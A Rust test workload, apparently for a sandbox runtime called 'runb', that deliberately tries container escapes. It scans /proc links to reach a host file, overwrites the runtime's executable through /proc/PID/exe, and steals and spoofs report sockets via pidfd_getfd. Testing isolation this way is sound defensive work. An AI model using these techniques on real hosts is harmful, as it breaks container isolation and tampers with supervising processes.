//! A workload that tries to get out. What it gets hold of it prints, one `escaped: …` each; last comes `done`.
//!
//! `attacker descriptors`: what is open.
//! `attacker walk MARK`: looks for the file MARK, a path of the host, through everything in /proc.
//! `attacker watch STOP MARK`: until the file STOP is there, attacks every process that comes into its pid namespace.
//! `attacker imitate STOP PID HOLD`: until STOP is there, takes a copy of the socket by which such a process reports, keeps it
//! open if HOLD is `hold`, and says over it what the process might say; of PID, a number, that it is the process's twin.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{IoSlice, Read, Seek, SeekFrom, Write};
use std::mem::MaybeUninit;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use rustix::net::{SendAncillaryBuffer, SendAncillaryMessage, SendFlags, sendmsg};
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};

const O_PATH: i32 = 0o10_000_000;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match args[..] {
        ["descriptors"] => descriptors(),
        ["walk", mark] => processes().iter().for_each(|process| walk(process, mark)),
        ["watch", stop, mark] => watch(Path::new(stop), mark),
        ["imitate", stop, pid, hold] => imitate(Path::new(stop), pid.parse().expect("a number"), hold == "hold"),
        _ => panic!("descriptors, walk MARK, watch STOP MARK, imitate STOP PID HOLD"),
    }
    println!("done");
}

fn descriptors() {
    let directory = fs::read_dir("/proc/self/fd").expect("/proc/self/fd");
    let mut names: Vec<_> =
        directory.flatten().map(|entry| entry.file_name().into_string().expect("a number")).collect();
    names.sort_by_key(|name| name.parse::<u32>().unwrap_or_default());
    // The directory itself was one of them.
    names.pop();
    println!("{}", names.join(" "));
}

fn processes() -> Vec<PathBuf> {
    let is_number = |path: &PathBuf| path.file_name().is_some_and(|name| name.to_string_lossy().parse::<u32>().is_ok());
    fs::read_dir("/proc").expect("/proc").flatten().map(|entry| entry.path()).filter(is_number).collect()
}

/// Whether the host's file `mark` is reached from the directory `from`, or above it.
fn reaches(from: &Path, mark: &str) -> bool {
    let mark = mark.trim_start_matches('/');
    let mut up = from.to_owned();
    (0..12).any(|_| {
        let found = up.join(mark).exists();
        up.push("..");
        found
    })
}

fn walk(process: &Path, mark: &str) {
    let fds = fs::read_dir(process.join("fd")).into_iter().flatten().flatten().map(|entry| entry.path());
    let links = ["root", "cwd"].into_iter().map(|name| process.join(name)).chain(fds);
    for link in links.filter(|link| reaches(link, mark)) {
        println!("escaped: {} leads to {mark}", link.display());
    }
}

fn watch(stop: &Path, mark: &str) {
    let own = [std::process::id(), 1].map(|pid| PathBuf::from(format!("/proc/{pid}")));
    println!("watching");
    let mut seen = 0u64;
    let mut held: Vec<(PathBuf, File)> = Vec::new();
    while !stop.exists() {
        for process in processes().into_iter().filter(|process| !own.contains(process)) {
            seen += 1;
            walk(&process, mark);
            let exe = process.join("exe");
            overwrite(&exe, &exe);
            if let Ok(file) = OpenOptions::new().read(true).custom_flags(O_PATH).open(&exe)
                && held.len() < 64
            {
                held.push((process, file));
            }
        }
    }
    // The programs that ran are not busy any more.
    for (process, file) in &held {
        overwrite(&PathBuf::from(format!("/proc/self/fd/{}", file.as_raw_fd())), process);
    }
    println!("looked at {seen} processes, held {} programs", held.len());
}

/// Writes the first byte of a program over itself.
fn overwrite(path: &Path, name: &Path) {
    let target = fs::read_link(path).map(|target| target.display().to_string()).unwrap_or_default();
    if !target.is_empty() && !target.contains("runb") {
        return;
    }
    let Ok(mut file) = OpenOptions::new().read(true).write(true).open(path) else { return };
    // A memfd of its own may be opened: its seals keep it as it is.
    if !target.starts_with("/memfd:") {
        println!("escaped: {} ({target}) is open for writing", name.display());
    }
    let mut byte = [0];
    let written =
        file.read_exact(&mut byte).and_then(|()| file.seek(SeekFrom::Start(0))).and_then(|_| file.write_all(&byte));
    if written.is_ok() {
        println!("escaped: {} ({target}) is overwritten", name.display());
    }
}

/// What a process of a launch says, and what it never would: kind, point, call, errno, value, as runb-init's reports have them.
fn lies(twin: u64) -> Vec<Vec<u8>> {
    let report = |kind: u8, point: u8, call: u16, errno: i32, value: u64| {
        let mut bytes = vec![kind, point];
        bytes.extend(call.to_ne_bytes());
        bytes.extend(errno.to_ne_bytes());
        bytes.extend(value.to_ne_bytes());
        bytes
    };
    let mut lies = Vec::new();
    for point in 0..8 {
        lies.push(report(3, 0, 0, 0, twin));
        lies.push(report(1, point, 9, 0, 0));
    }
    for (call, errno) in [(0, 13), (5, 2), (u16::MAX, i32::MAX), (40, -1)] {
        lies.push(report(2, 0, call, errno, 3));
    }
    lies.push(report(4, 0, 0, 0, 0));
    lies.push(report(99, 99, 99, 99, u64::MAX));
    lies.push(vec![1, 2, 3]);
    lies.push(Vec::new());
    lies
}

fn imitate(stop: &Path, twin: u64, hold: bool) {
    let own = [std::process::id(), 1].map(|pid| PathBuf::from(format!("/proc/{pid}")));
    println!("watching");
    let lies = lies(twin);
    let (mut said, mut held, mut done) = (0, Vec::new(), BTreeSet::new());
    while !stop.exists() {
        for process in processes().into_iter().filter(|process| !own.contains(process)) {
            if done.contains(&process) {
                continue;
            }
            let Some(socket) = report_socket(&process) else { continue };
            done.insert(process);
            if hold {
                said += 1;
                held.push(socket);
                continue;
            }
            let lie = &lies[said % lies.len()];
            // Now and then with more descriptors than anybody sends.
            let null = File::open("/dev/null").expect("open");
            let descriptors = vec![null.as_fd(); said % 4];
            let mut space = [MaybeUninit::uninit(); 128];
            let mut control = SendAncillaryBuffer::new(&mut space);
            if !descriptors.is_empty() {
                control.push(SendAncillaryMessage::ScmRights(&descriptors));
            }
            said += usize::from(sendmsg(&socket, &[IoSlice::new(lie)], &mut control, SendFlags::NOSIGNAL).is_ok());
        }
    }
    println!("imitated {said} processes");
}

/// A copy of the first socket above the standard descriptors of another process.
fn report_socket(process: &Path) -> Option<OwnedFd> {
    let pid: i32 = process.file_name()?.to_str()?.parse().ok()?;
    let pidfd = pidfd_open(Pid::from_raw(pid)?, PidfdFlags::empty()).ok()?;
    (3..6).find_map(|number| {
        let target = fs::read_link(process.join(format!("fd/{number}"))).ok()?;
        let copy = pidfd_getfd(&pidfd, number, PidfdGetfdFlags::empty()).ok()?;
        target.to_str()?.starts_with("socket:").then_some(copy)
    })
}
